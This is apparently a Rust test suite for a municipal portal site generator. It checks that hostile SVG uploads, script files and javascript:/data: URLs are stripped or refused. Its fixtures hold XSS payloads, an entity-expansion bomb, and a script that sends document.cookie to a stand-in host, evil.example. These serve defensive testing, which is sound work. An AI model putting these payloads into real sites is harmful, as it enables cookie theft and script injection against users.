//! Files copied from the portal's content folders and URL fields: nothing an editor
//! writes may run script on the site's origin (docs/security.md).
//!
//! Each test builds a small portal in a temporary folder, with hostile files or values
//! an attacker (or a careless export) could put there, and checks the problems reported
//! (file:line:col) and the site written: SVGs in it are parsed again with roxmltree, a
//! parser independent of the one wegweiser uses.

use std::fs;
use std::path::{Path, PathBuf};

use tempfile::TempDir;
use wegweiser::base::diagnostics::{Diagnostic, Severity};
use wegweiser::build::pipeline::{BuildOptions, build};
use wegweiser::render::NoProgress;

const SVG_NS: &str = "http://www.w3.org/2000/svg";

/// A portal with one municipality `m` (German only) in a temporary folder.
struct Portal {
    _tmp: TempDir,
    root: PathBuf,
}

impl Portal {
    fn new() -> Portal {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().join("portal");
        let portal = Portal { _tmp: tmp, root };
        portal.write(
            "wegweiser.toml",
            "title = \"Testportal\"\nbase_url = \"https://portal.example.org\"\n",
        );
        portal.write(
            "content/m/municipality.toml",
            "name = \"Musterstadt\"\nsource_language = \"de\"\nlanguages = [\"de\"]\n",
        );
        portal.write(
            "content/m/_index.de.md",
            "+++\ntitle = \"Willkommen\"\n+++\n\nWillkommen.\n",
        );
        portal
    }

    fn write(&self, rel: &str, text: impl AsRef<[u8]>) {
        let path = self.root.join(rel);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    fn append(&self, rel: &str, text: &str) {
        let mut old = fs::read_to_string(self.root.join(rel)).unwrap();
        old.push_str(text);
        self.write(rel, old);
    }

    fn out(&self) -> PathBuf {
        self.root.join("public")
    }

    fn options(&self) -> BuildOptions {
        BuildOptions {
            root: self.root.clone(),
            output: Some(self.out()),
            write: true,
            ..Default::default()
        }
    }

    /// Build; the diagnostics and whether it succeeded.
    fn build(&self) -> (Vec<Diagnostic>, bool) {
        match build(&self.options(), &NoProgress) {
            Ok(report) => (report.diagnostics, true),
            Err(failure) => (failure.diagnostics, false),
        }
    }
}

fn show(diags: &[Diagnostic]) -> String {
    diags
        .iter()
        .map(|d| format!("  {}: {} {}", d.location(), d.severity, d.message))
        .collect::<Vec<_>>()
        .join("\n")
}

/// The diagnostic of `severity` at `location` (`file:line:col`) whose message has
/// `contains`.
#[track_caller]
fn find<'a>(
    diags: &'a [Diagnostic],
    severity: Severity,
    location: &str,
    contains: &str,
) -> &'a Diagnostic {
    diags
        .iter()
        .find(|d| {
            d.severity == severity && d.location() == location && d.message.contains(contains)
        })
        .unwrap_or_else(|| {
            panic!(
                "no {severity} at {location} with {contains:?} among:\n{}",
                show(diags)
            )
        })
}

/// Parse `bytes` with roxmltree and check that nothing in it can run script or load
/// another file.
#[track_caller]
fn assert_inert_svg(bytes: &[u8]) {
    let text = std::str::from_utf8(bytes).unwrap();
    let doc = roxmltree::Document::parse(text)
        .unwrap_or_else(|e| panic!("the published SVG is not well-formed: {e}\n{text}"));
    assert_eq!(doc.root_element().tag_name().name(), "svg");
    for node in doc.descendants().filter(|n| n.is_element()) {
        let name = node.tag_name();
        assert_eq!(name.namespace(), Some(SVG_NS), "{text}");
        assert!(
            !matches!(
                name.name(),
                "script" | "foreignObject" | "a" | "iframe" | "handler"
            ),
            "<{}> in {text}",
            name.name()
        );
        for attr in node.attributes() {
            assert!(
                !attr.name().to_ascii_lowercase().starts_with("on"),
                "{} in {text}",
                attr.name()
            );
            if attr.name() == "href" {
                assert!(attr.value().starts_with('#'), "{} in {text}", attr.value());
            }
            let value = attr.value().to_ascii_lowercase();
            assert!(
                !value.contains("javascript") && !value.contains("url(http"),
                "{value} in {text}"
            );
        }
        if name.name() == "style" {
            let css = node.text().unwrap_or("").to_ascii_lowercase();
            assert!(
                !css.contains("@import") && !css.contains("url(http"),
                "{css}"
            );
        }
    }
    assert!(!text.contains("alert"), "{text}");
}

const HOSTILE_PLAN: &str = r##"<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" onload="alert(1)">
  <title>Plan</title>
  <script>alert(document.cookie)</script>
  <foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(2)"/></body></foreignObject>
  <image href="https://tracker.example/pixel.png" width="1" height="1"/>
  <a xlink:href="javascript:alert(3)"><rect id="r" width="50" height="50" fill="#35506b"/></a>
  <use xlink:href="https://evil.example/sprite.svg#icon"/>
  <set attributeName="href" to="javascript:alert(4)"/>
  <circle cx="75" cy="75" r="20" fill="#c0392b" onclick="alert(5)"/>
</svg>
"##;

const HOSTILE_LOGO: &str = r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 40" width="40" height="40">
<style>@import url(https://evil.example/x.css);</style>
<rect width="40" height="40" fill="#8b1a1a"/>
<script type="text/javascript">fetch('https://evil.example/?c=' + document.cookie)</script>
</svg>
"##;

#[test]
fn hostile_svgs_in_a_bundle_and_the_theme_are_published_without_their_script() {
    let p = Portal::new();
    p.write(
        "content/m/amt/index.de.md",
        "+++\ntitle = \"Amt\"\n+++\n\n![Lageplan des Amts](plan.svg)\n",
    );
    p.write("content/m/amt/plan.svg", HOSTILE_PLAN);
    p.write("content/m/logo.svg", HOSTILE_LOGO);
    p.append(
        "content/m/municipality.toml",
        "\n[theme]\nlogo = \"logo.svg\"\n",
    );

    let (diags, ok) = p.build();
    assert!(
        ok,
        "the build should succeed with warnings:\n{}",
        show(&diags)
    );
    let plan = "content/m/amt/plan.svg";
    let w = Severity::Warning;
    find(
        &diags,
        w,
        &format!("{plan}:2:106"),
        "`onload` attribute (an event handler)",
    );
    find(&diags, w, &format!("{plan}:4:3"), "`<script>` element");
    find(
        &diags,
        w,
        &format!("{plan}:5:3"),
        "`<foreignObject>` element",
    );
    find(
        &diags,
        w,
        &format!("{plan}:6:3"),
        "`<image>` of another file",
    );
    find(&diags, w, &format!("{plan}:7:3"), "`<a>` link");
    // Five warnings at most per file, then how many more.
    find(&diags, w, &format!("{plan}:8:3"), "3 more parts left out");
    let logo = "content/m/logo.svg";
    find(
        &diags,
        w,
        &format!("{logo}:2:1"),
        "`<style>` element with `@import`",
    );
    find(&diags, w, &format!("{logo}:4:1"), "`<script>` element");

    let plan_out = fs::read(p.out().join("m/de/amt/plan.svg")).unwrap();
    assert_inert_svg(&plan_out);
    let plan_out = String::from_utf8(plan_out).unwrap();
    // The drawing itself is kept.
    assert!(plan_out.contains("<title>Plan</title>"), "{plan_out}");
    assert!(plan_out.contains(r##"<rect id="r" width="50" height="50" fill="#35506b"/>"##));
    assert!(plan_out.contains(r##"<circle cx="75" cy="75" r="20" fill="#c0392b"/>"##));

    let logo_out = fs::read(p.out().join("m/_theme/logo.svg")).unwrap();
    assert_inert_svg(&logo_out);
    assert!(
        String::from_utf8(logo_out)
            .unwrap()
            .contains(r##"<rect width="40" height="40" fill="#8b1a1a"/>"##)
    );
}

/// A PNG screenshot of `file` by headless Chromium.
fn screenshot(chromium: &Path, file: &Path) -> Vec<u8> {
    let shot = file.with_extension("png");
    let status = std::process::Command::new(chromium)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--window-size=200,100",
            "--hide-scrollbars",
        ])
        .arg(format!("--screenshot={}", shot.display()))
        .arg(format!("file://{}", file.display()))
        .stderr(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(status.success());
    fs::read(&shot).unwrap()
}

#[test]
fn a_sanitised_logo_still_draws_in_chromium() {
    let chromium = Path::new("/usr/bin/chromium");
    if !chromium.exists() {
        eprintln!("skipped: no {}", chromium.display());
        return;
    }
    let p = Portal::new();
    p.write("content/m/logo.svg", HOSTILE_LOGO);
    p.append(
        "content/m/municipality.toml",
        "\n[theme]\nlogo = \"logo.svg\"\n",
    );
    let (diags, ok) = p.build();
    assert!(ok, "{}", show(&diags));
    let shots = p.root.join("shots");
    fs::create_dir_all(&shots).unwrap();
    let published = shots.join("published.svg");
    fs::copy(p.out().join("m/_theme/logo.svg"), &published).unwrap();
    // What the logo draws without its script and import, and nothing.
    let expected = shots.join("expected.svg");
    fs::write(
        &expected,
        format!("<svg xmlns=\"{SVG_NS}\" viewBox=\"0 0 40 40\" width=\"40\" height=\"40\"><rect width=\"40\" height=\"40\" fill=\"#8b1a1a\"/></svg>"),
    )
    .unwrap();
    let blank = shots.join("blank.svg");
    fs::write(
        &blank,
        format!("<svg xmlns=\"{SVG_NS}\" width=\"40\" height=\"40\"/>"),
    )
    .unwrap();
    let shot = screenshot(chromium, &published);
    assert_eq!(
        shot,
        screenshot(chromium, &expected),
        "the logo draws as it should"
    );
    assert_ne!(
        shot,
        screenshot(chromium, &blank),
        "the logo draws something"
    );
}

#[test]
fn serve_publishes_an_edited_svg_sanitised_too() {
    use wegweiser::serve::{Outcome, Session};
    let p = Portal::new();
    p.write(
        "content/m/amt/index.de.md",
        "+++\ntitle = \"Amt\"\n+++\n\n![Lageplan des Amts](plan.svg)\n",
    );
    let clean = format!("<svg xmlns=\"{SVG_NS}\"><rect width=\"1\" height=\"1\"/></svg>");
    p.write("content/m/amt/plan.svg", &clean);
    let mut session = Session::new(BuildOptions {
        base_url: Some("http://127.0.0.1:1111".into()),
        ..p.options()
    });
    assert!(matches!(session.build(), Outcome::Built { .. }));
    let served = |session: &Session| session.files()["m/de/amt/plan.svg"].read().unwrap();
    assert_eq!(&*served(&session), clean.as_bytes());

    p.write("content/m/amt/plan.svg", HOSTILE_PLAN);
    let outcome = session.apply(&[p.root.join("content/m/amt/plan.svg")]);
    let Outcome::Built { warnings, .. } = outcome else {
        panic!("{outcome:?}")
    };
    find(
        &warnings,
        Severity::Warning,
        "content/m/amt/plan.svg:4:3",
        "`<script>` element",
    );
    assert_inert_svg(&served(&session));
}

#[test]
fn an_svg_with_entities_or_broken_xml_is_refused_and_nothing_is_written() {
    let p = Portal::new();
    p.write(
        "content/m/amt/index.de.md",
        "+++\ntitle = \"Amt\"\n+++\n\n![Plan](lol.svg)\n",
    );
    p.write(
        "content/m/amt/lol.svg",
        r#"<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&lol3;</text></svg>
"#,
    );
    p.write(
        "content/m/kaputt.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\">\n  <g>\n</svg>\n",
    );
    p.write(
        "content/m/html.svg",
        "<html><script>alert(1)</script></html>\n",
    );
    let (diags, ok) = p.build();
    assert!(!ok, "{}", show(&diags));
    let e = Severity::Error;
    find(
        &diags,
        e,
        "content/m/amt/lol.svg:7:47",
        "`&lol3;` is not defined",
    );
    find(&diags, e, "content/m/kaputt.svg:3:1", "not well-formed XML");
    find(&diags, e, "content/m/html.svg:1:1", "not an SVG image");
    assert!(!p.out().exists(), "a failed build writes nothing");
}

#[test]
fn active_files_in_content_folders_are_refused_by_name() {
    let p = Portal::new();
    p.write(
        "content/m/amt/index.de.md",
        "+++\ntitle = \"Amt\"\n+++\n\n[Formular](formular.html)\n",
    );
    p.write("content/m/amt/formular.html", "<script>alert(1)</script>");
    p.write("content/m/amt/app.js", "alert(1)");
    p.write("content/m/modul.MJS", "alert(1)");
    p.write("content/m/amt/daten.xhtml", "<html/>");
    p.write("content/m/amt/formular.pdf", "%PDF-1.4");
    let (diags, ok) = p.build();
    assert!(!ok, "{}", show(&diags));
    for (file, name) in [
        ("content/m/amt/formular.html", "formular.html"),
        ("content/m/amt/app.js", "app.js"),
        ("content/m/modul.MJS", "modul.MJS"),
        ("content/m/amt/daten.xhtml", "daten.xhtml"),
    ] {
        let d = find(&diags, Severity::Error, file, name);
        assert!(d.message.contains("can run script"), "{}", d.message);
        assert!(d.hint.as_deref().unwrap().contains("static/"));
    }
    assert!(
        !diags.iter().any(|d| d.file.ends_with("formular.pdf")),
        "{}",
        show(&diags)
    );
    assert!(!p.out().exists());
}

// ---------------------------------------------------------------------------------------
// URL fields

/// Values that must never become a link: other schemes, and schemes hidden by white
/// space or control characters that browsers skip. As TOML basic strings.
const BAD_URLS: &[&str] = &[
    "javascript:alert(1)",
    "JavaScript:alert(document.domain)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    " javascript:alert(1)",
    "java\\tscript:alert(1)",
    "java\\nscript:alert(1)",
    "\\u0001javascript:alert(1)",
    "https://example.org/\\njavascript:alert(1)",
];

/// Build a portal that `setup` gives a bad URL and check the error: at `file`, line
/// `line`, naming `field` or the value.
#[track_caller]
fn assert_url_refused(
    file: &str,
    line: usize,
    column: usize,
    field: &str,
    setup: impl Fn(&Portal, &str),
) {
    for bad in BAD_URLS {
        let p = Portal::new();
        setup(&p, bad);
        let (diags, ok) = p.build();
        assert!(!ok, "{field} = \"{bad}\" was accepted:\n{}", show(&diags));
        let d = diags
            .iter()
            .find(|d| {
                d.is_error()
                    && d.file == Path::new(file)
                    && d.message.contains("is not an absolute http(s) URL")
            })
            .unwrap_or_else(|| {
                panic!("{field} = \"{bad}\": no error in {file}:\n{}", show(&diags))
            });
        assert_eq!(
            (d.line, d.column),
            (line, column),
            "{field} = \"{bad}\": {}",
            show(&diags)
        );
        assert!(
            d.excerpt.as_ref().unwrap().text.contains(field),
            "{field}: the error does not point at the field: {d:?}"
        );
        assert!(!p.out().exists());
    }
}

#[test]
fn conciliation_url_takes_web_addresses_only() {
    assert_url_refused(
        "content/m/municipality.toml",
        8,
        20,
        "conciliation_url",
        |p, bad| {
            p.append(
                "content/m/municipality.toml",
                &format!(
                    "\n[legal]\naccessibility_page = \"@/_index.md\"\n[legal.accessibility]\nconciliation_url = \"{bad}\"\n"
                ),
            )
        },
    );
}

#[test]
fn actor_url_takes_web_addresses_only() {
    assert_url_refused("content/m/actors.toml", 5, 1, "url", |p, bad| {
        p.write(
            "content/m/actors.toml",
            format!(
                "[[actor]]\nid = \"vhs\"\nname = \"VHS\"\nkind = \"education\"\nurl = \"{bad}\"\n"
            ),
        )
    });
}

#[test]
fn place_urls_take_web_addresses_only() {
    for (field, line) in [("website", 5), ("appointment_url", 6)] {
        assert_url_refused("content/m/places/amt.md", line, 1, field, |p, bad| {
            let (website, appointment) = if field == "website" {
                (bad, "https://example.org/termin")
            } else {
                ("https://example.org", bad)
            };
            p.write(
                "content/m/places/amt.md",
                format!(
                    "+++\ntitle = \"Amt\"\nid = \"amt\"\ncategory = \"authority\"\nwebsite = \"{website}\"\nappointment_url = \"{appointment}\"\n+++\nText.\n"
                ),
            )
        });
    }
}

#[test]
fn event_urls_take_web_addresses_only() {
    assert_url_refused("content/m/events/kurs.md", 4, 1, "online_url", |p, bad| {
        p.write(
            "content/m/events/kurs.md",
            format!(
                "+++\ntitle = \"Kurs\"\nstart = 2026-11-10T18:00\nonline_url = \"{bad}\"\n+++\nText.\n"
            ),
        )
    });
}

#[test]
fn a_registration_that_is_not_a_web_address_is_shown_as_text() {
    let p = Portal::new();
    p.write(
        "content/m/events/kurs.md",
        "+++\ntitle = \"Kurs\"\nstart = 2026-11-10T18:00\nlocation = \"VHS\"\nregistration = \"javascript:alert(1)\"\n+++\nText.\n",
    );
    let (diags, ok) = p.build();
    assert!(ok, "{}", show(&diags));
    let page = fs::read_to_string(p.out().join("m/de/veranstaltungen/kurs/index.html"))
        .or_else(|_| {
            let found = walkdir::WalkDir::new(p.out())
                .into_iter()
                .filter_map(Result::ok)
                .find(|e| e.path().ends_with("kurs/index.html"))
                .expect("the event page");
            fs::read_to_string(found.path())
        })
        .unwrap();
    assert!(page.contains("javascript:alert(1)"), "shown as text");
    assert!(!page.contains("href=\"javascript"), "never a link");

    // A web address with white space in it is an error where the field is.
    let p = Portal::new();
    p.write(
        "content/m/events/kurs.md",
        "+++\ntitle = \"Kurs\"\nstart = 2026-11-10T18:00\nlocation = \"VHS\"\nregistration = \"https://anmeldung.example/\\njavascript:alert(1)\"\n+++\n",
    );
    let (diags, ok) = p.build();
    assert!(!ok);
    find(
        &diags,
        Severity::Error,
        "content/m/events/kurs.md:5:1",
        "is not an absolute http(s) URL",
    );
}

#[test]
fn portal_urls_take_web_addresses_only() {
    assert_url_refused("wegweiser.toml", 3, 1, "edit_url", |p, bad| {
        p.append("wegweiser.toml", &format!("edit_url = \"{bad}{{path}}\"\n"))
    });
    assert_url_refused("wegweiser.toml", 2, 1, "base_url", |p, bad| {
        p.write(
            "wegweiser.toml",
            format!("title = \"Testportal\"\nbase_url = \"{bad}\"\n"),
        )
    });
}
